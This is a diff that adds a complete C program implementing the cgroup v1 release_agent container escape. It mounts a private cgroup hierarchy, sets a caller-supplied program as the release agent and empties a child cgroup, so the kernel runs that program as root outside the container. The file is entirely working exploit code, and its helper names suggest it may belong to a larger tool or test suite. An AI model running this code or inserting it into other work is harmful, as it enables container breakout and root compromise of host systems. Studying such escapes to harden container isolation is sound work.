@@ -1,0 +1,33 @@
+/*
+ * release PROGRAM: mounts a cgroup v1 hierarchy of its own, names PROGRAM as its release agent, and lets a
+ * cgroup in it become empty: the kernel then runs PROGRAM, a path outside, as root.
+ */
+#include "way.h"
+#include <sys/wait.h>
+
+static void put(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY);
+    if (fd < 0 || write(fd, text, strlen(text)) < 0)
+        held(path);
+    close(fd);
+}
+
+int main(int argc, char **argv) {
+    (void)argc;
+    if (mount("cgroup", "/tmp", "cgroup", 0, "none,name=escape") < 0)
+        held("mount");
+    put("/tmp/release_agent", argv[1]);
+    if (mkdir("/tmp/child", 0700) < 0)
+        held("mkdir");
+    put("/tmp/child/notify_on_release", "1");
+    pid_t child = fork();
+    if (child == 0) {
+        put("/tmp/child/cgroup.procs", "0");
+        _exit(0);
+    }
+    waitpid(child, 0, 0);
+    usleep(500000);
+    rmdir("/tmp/child");
+    put("/tmp/release_agent", "\n");
+    return 0;
+}
